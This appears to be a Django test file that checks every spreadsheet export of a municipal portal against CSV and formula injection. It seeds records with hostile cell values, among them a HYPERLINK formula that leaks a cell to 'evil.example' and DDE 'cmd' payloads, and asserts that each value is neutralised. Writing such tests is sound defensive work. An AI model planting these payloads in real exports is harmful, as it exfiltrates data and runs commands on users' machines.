"""Every spreadsheet the portal writes is formula-safe, proved over the whole URL map (issue 14 §5).

The municipality's data is seeded with values that spreadsheet programs would run as formulas; every
municipality page is fetched as the manager, and every page without URL parameters (HQ's) as HQ, plainly
and with ?format=csv and ?format=xlsx, and every answer that is a CSV or an XLSX is opened and checked
cell by cell. Pages reached only by a personal token (RSVP, calendar feeds) answer HTML or iCalendar. An export added later is covered automatically; its
URL parameters come from the tenancy samples (tests/<app>/tenancy_samples.py), as in test_tenancy.py.
"""

import csv
import io
import re

import pytest
from openpyxl import load_workbook

from kehila.spreadsheets import CSV_CONTENT_TYPE, XLSX_CONTENT_TYPE, neutralise, unneutralise
from partners.models import MunicipalRole
from tests.kehila.test_tenancy import build_url, sample_makers
from tests.partners.factories import AffiliationFactory, PersonFactory
from tests.urlmap import all_routes

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\n=1+1",
    "\u00a0@SUM(1)",
]
NUMBER = re.compile(r"-?\d+(\.\d+)?")
# Exports that exist today: the walk must find them, or it proves nothing.
KNOWN = {
    ("partners:export", "csv"),
    ("partners:export", "xlsx"),
    ("partners:managers_meeting", "csv"),
    ("strategy:plan_version_xlsx", "xlsx"),
}


def formula_like(cell) -> bool:
    if not isinstance(cell, str) or not cell or NUMBER.fullmatch(cell):
        return False
    return cell.startswith(("=", "+", "-", "@", "\t", "\r")) or cell.lstrip().startswith(
        ("=", "+", "-", "@")
    )


def seed_formulas(municipality):
    from tests.strategy.plan_factories import a_goal, a_plan_version, an_action, an_objective

    for i, value in enumerate(FORMULAS):
        person = PersonFactory(
            municipality=municipality,
            full_name=value,
            title=value,
            neighbourhood=value[:100],
            languages=value[:100],
            municipal_role=MunicipalRole.MAYOR,
            email=f"formula{i}@example.org",
            phone="",
        )
        AffiliationFactory(person=person, organisation__name=value)
    a_goal(municipality, title=FORMULAS[0])
    an_objective(municipality, title=FORMULAS[1])
    an_action(municipality, title=FORMULAS[2])
    a_plan_version(municipality)


def cells(response) -> list:
    kind = response["Content-Type"]
    if kind.startswith("text/csv"):
        text = response.content.decode("utf-8-sig")
        return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    workbook = load_workbook(io.BytesIO(response.content))  # not data_only: formulas stay visible
    return [c.value for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row]


def is_spreadsheet(response) -> bool:
    kind = response.get("Content-Type", "")
    return kind.startswith("text/csv") or kind == XLSX_CONTENT_TYPE


@pytest.mark.django_db
def test_no_export_anywhere_writes_a_cell_that_starts_a_formula(
    client, municipality, manager, hq_user
):
    seed_formulas(municipality)
    found = set()
    for route in all_routes():
        if route.route.startswith("m/<slug:slug>/"):
            client.force_login(manager)
            url = build_url(route, municipality.slug, municipality, sample_makers(route))
        elif not route.params and not route.name.startswith("admin:"):
            client.force_login(hq_user)  # HQ's pages read every municipality
            url = "/" + route.route
        else:
            continue
        for fmt in ("", "csv", "xlsx"):
            response = client.get(url, {"format": fmt} if fmt else {})
            if response.status_code != 200 or not is_spreadsheet(response):
                continue
            written = cells(response)
            kind = "csv" if response["Content-Type"] == CSV_CONTENT_TYPE else "xlsx"
            found.add((route.name, kind))
            dangerous = [c for c in written if formula_like(c)]
            assert not dangerous, f"{url}?format={fmt} wrote formula cells: {dangerous[:3]}"
            # The seeded values are there, neutralised, not dropped.
            assert any(
                isinstance(c, str) and c.startswith("'") and c[1:] in FORMULAS for c in written
            ), f"{url}?format={fmt} has none of the seeded values"
    assert found >= KNOWN, f"the walk missed exports: {KNOWN - found}"


@pytest.mark.parametrize("value", FORMULAS)
def test_a_cell_that_would_start_a_formula_gets_a_leading_quote(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["שלום", "050-1234567", "a=b", -5, 3.5, None])
def test_other_cells_are_written_as_they_are(value):
    assert neutralise(value) == ("" if value is None else value)


@pytest.mark.parametrize("value", FORMULAS)
def test_a_neutralised_cell_reads_back_as_it_was_written(value):
    assert unneutralise(neutralise(value)) == value.rstrip()
